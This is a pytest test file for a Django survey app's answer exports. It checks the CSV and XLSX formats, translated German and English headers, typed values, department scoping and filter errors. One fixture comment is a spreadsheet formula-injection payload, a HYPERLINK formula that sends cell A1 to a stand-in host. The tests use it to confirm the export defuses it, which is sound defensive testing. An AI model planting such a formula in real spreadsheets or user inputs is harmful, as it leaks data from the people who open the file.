"""The answers export (API `?format=` and the page): formula guard, translated headers and labels, typed values."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from nps import services
from tests.factories import TouchpointFactory
from tests.nps.factories import SurveyFactory, sent_invitation

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x.example/"&A1,"klick")'


def answer(score: int, comment: str = "", **kwargs):
    return services.response_submit(invitation=sent_invitation(**kwargs), score=score, comment=comment).response


@pytest.fixture
def answers(department):
    touchpoint = TouchpointFactory(name="Kasse Hamburg", department=department)
    survey = SurveyFactory(name="Beziehung")
    answer(2, FORMULA, survey=survey, touchpoint=touchpoint)
    answer(10, "Super", survey=survey, touchpoint=touchpoint)


def api_export(api_as, user, fmt, **params):
    return api_as(user).get("/api/v1/nps/responses/", {"format": fmt, **params})


def page_export(client, user, fmt, **headers):
    client.force_login(user)
    return client.get("/nps/responses/", {"export": fmt}, **headers)


def csv_frame(content: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(content), sep=";", decimal=",", encoding="utf-8-sig")


def sheet(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def test_a_formula_comment_comes_out_as_text_in_the_api_csv_and_xlsx(api_as, cceo, answers):
    csv = api_export(api_as, cceo, "csv")
    assert csv.status_code == 200
    assert "'" + FORMULA.replace('"', '""') in csv.content.decode("utf-8-sig")
    assert csv_frame(csv.content)["Kommentar"].tolist() == ["'" + FORMULA, "Super"]
    xlsx = api_export(api_as, cceo, "xlsx")
    rows = list(sheet(xlsx.content).iter_rows())
    header = [cell.value for cell in rows[0]]
    cell = rows[1][header.index("Kommentar")]
    assert cell.value == FORMULA and cell.data_type == "s"


def test_a_formula_comment_comes_out_as_text_in_the_page_export(client, cceo, answers):
    csv = page_export(client, cceo, "csv")
    assert csv_frame(csv.content)["Kommentar"].iloc[0] == "'" + FORMULA
    ws = sheet(page_export(client, cceo, "xlsx").content)
    header = [cell.value for cell in ws[1]]
    cell = ws.cell(row=2, column=header.index("Kommentar") + 1)
    assert cell.value == FORMULA and cell.data_type == "s"


def test_the_german_export_has_translated_headers_labels_and_numbers(api_as, cceo, answers):
    frame = csv_frame(api_export(api_as, cceo, "csv").content)
    assert list(frame.columns)[:4] == ["ID", "Befragung", "Art", "Wert"]
    assert "Kontaktpunkt" in frame.columns and "Nachfassen nötig" in frame.columns
    assert frame["Wert"].tolist() == [2, 10] and pd.api.types.is_integer_dtype(frame["Wert"])
    assert frame["Kategorie"].tolist() == ["Kritiker", "Promotor"]
    assert frame["Nachfassen nötig"].tolist() == ["ja", "nein"]
    assert frame["Kontaktpunkt"].tolist() == ["Kasse Hamburg", "Kasse Hamburg"]
    assert frame["Art"].iloc[0] == "Beziehungsbefragung"
    assert frame["beantwortet"].iloc[0].count(".") == 2  # 31.12.2026 14:05
    ws = sheet(api_export(api_as, cceo, "xlsx").content)
    header = [cell.value for cell in ws[1]]
    score = ws.cell(row=2, column=header.index("Wert") + 1)
    assert score.value == 2 and score.data_type == "n"
    assert ws.freeze_panes == "A2"


def test_the_english_export_speaks_english(api_as, client, cceo, answers):
    csv = api_as(cceo).get("/api/v1/nps/responses/", {"format": "csv"}, HTTP_ACCEPT_LANGUAGE="en")
    frame = pd.read_csv(io.BytesIO(csv.content), encoding="utf-8-sig")
    assert {"Touchpoint", "Score", "Category", "Needs follow-up"} <= set(frame.columns)
    assert frame["Category"].tolist() == ["Detractor", "Promoter"]
    assert frame["Needs follow-up"].tolist() == ["yes", "no"]
    page = page_export(client, cceo, "csv", HTTP_ACCEPT_LANGUAGE="en")
    assert "Touchpoint" in pd.read_csv(io.BytesIO(page.content), encoding="utf-8-sig").columns


def test_the_export_keeps_to_the_filters_and_the_department(api_as, make_user, other_department, answers):
    answer(4, "fremd", touchpoint=TouchpointFactory(department=other_department))
    agent = make_user("agent", username="agent-export")
    frame = csv_frame(api_export(api_as, agent, "csv").content)
    assert sorted(frame["Wert"].tolist()) == [2, 10]
    detractors = csv_frame(api_export(api_as, agent, "csv", category="detractor").content)
    assert detractors["Wert"].tolist() == [2]


def test_an_export_with_a_bad_filter_is_a_400(api_as, client, cceo, answers):
    assert api_export(api_as, cceo, "csv", touchpoint=999999).status_code == 400
    client.force_login(cceo)
    assert client.get("/nps/responses/", {"export": "csv", "date_from": "morgen"}).status_code == 400


def test_the_schema_declares_the_csv_and_xlsx_downloads(client):
    schema = client.get("/api/schema/", HTTP_ACCEPT="application/json")
    content = schema.json()["paths"]["/api/v1/nps/responses/"]["get"]["responses"]["200"]["content"]
    assert set(content) == {
        "application/json",
        "text/csv",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    }
    assert content["application/json"]["schema"]["$ref"].endswith("PaginatedResponseList")
